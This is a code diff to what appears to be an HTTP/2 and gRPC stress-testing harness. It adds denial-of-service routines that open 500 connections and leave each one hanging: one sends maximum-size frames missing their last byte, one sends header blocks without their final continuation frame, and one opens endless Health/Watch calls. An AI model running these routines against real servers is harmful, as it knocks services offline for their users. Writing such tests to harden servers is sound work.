@@ -34,7 +34,7 @@ _DRIBBLE_S = 0.1
 # Number of calls in flight of an attack whose calls are legal; servers allow 100 streams or more.
 _AT_ONCE = 96
 # Numbers of connections for attacks that open many streams on each connection.
-_CONNECTIONS, _FEW_CONNECTIONS = 100, 10
+_CONNECTIONS, _FEW_CONNECTIONS, _UNFINISHED = 100, 10, 500
 
 
 def _streams(first: int = 1) -> Iterator[int]:
@@ -308,9 +308,7 @@ def no_preface(attacker: Attacker) -> None:
     conns = [conn for _ in range(600) if not attacker.is_over and (conn := attacker.connect(is_raw=True))]
     for conn in conns[::2]:
         conn.send([frames.PREFACE[:10]], attacker.end_s)
-    while not attacker.is_over and not all(conn.closed for conn in conns):
-        for conn in conns:
-            conn.wait(min(time.monotonic() + 0.001, attacker.end_s))
+    attacker.until_closed(conns)
 
 
 def wrong_preface(attacker: Attacker) -> None:
@@ -442,9 +440,38 @@ def _begun(attacker: Attacker, connections: int, begin: Callable[[int], bytes]) 
         if not attacker.is_over and (conn := attacker.connect()) is not None:
             conns.append(conn)
             conn.send([frames.PREFACE + frames.settings() + begun], attacker.end_s)
-    while not attacker.is_over and not all(conn.closed for conn in conns):
-        for conn in conns:
-            conn.wait(min(time.monotonic() + 0.001, attacker.end_s))
+    attacker.until_closed(conns)
+
+
+def _unfinished(attacker: Attacker, begin: Callable[[Conn], bytes]) -> None:
+    """Sends the beginning of a frame or request on each of 500 connections, and then nothing.
+
+    Args:
+      begin: returns the bytes, given a connection whose server has sent its SETTINGS.
+    """
+    conns = [conn for _ in range(_UNFINISHED) if not attacker.is_over and (conn := attacker.connect())]
+    for conn in conns:
+        conn.send([frames.PREFACE + frames.settings()], attacker.end_s)
+    for conn in conns:
+        conn.answer(attacker.end_s)
+        conn.send([begin(conn)], attacker.end_s)
+    attacker.until_closed(conns)
+
+
+def half_frames(attacker: Attacker) -> None:
+    """A frame of the largest size on each of 500 connections, without its last byte."""
+
+    def begin(conn: Conn) -> bytes:
+        return frames.frame(0x77, 0, 0, bytes(conn.received.max_frame))[:-1]
+
+    _unfinished(attacker, begin)
+
+
+def half_headers(attacker: Attacker) -> None:
+    """Header blocks of 60 KB on 500 connections that each lack their last frame."""
+    filler = frames.block([(b"h", b"v" * 15_000)])
+    begun = frames.frame(HEADERS, 0, 1, attacker.target.fields())
+    _unfinished(attacker, lambda conn: begun + frames.frame(CONTINUATION, 0, 1, filler) * 4)
 
 
 def large_headers(attacker: Attacker) -> None:
@@ -482,6 +509,13 @@ def health_watches(attacker: Attacker) -> None:
         return frames.frame(HEADERS, END_HEADERS, stream, fields) + _body(attacker, stream, b"")
 
     _begun(attacker, _CONNECTIONS, begin)
+
+
+def many_watches(attacker: Attacker) -> None:
+    """Eight calls to Health/Watch, which have no end, on each of 500 connections."""
+    fields = attacker.target.fields(path=_WATCH)
+    calls = [frames.frame(HEADERS, END_HEADERS, s, fields) + _body(attacker, s, b"") for s in range(1, 17, 2)]
+    _unfinished(attacker, lambda conn: b"".join(calls))
 
 
 def odd_metadata(attacker: Attacker) -> None:
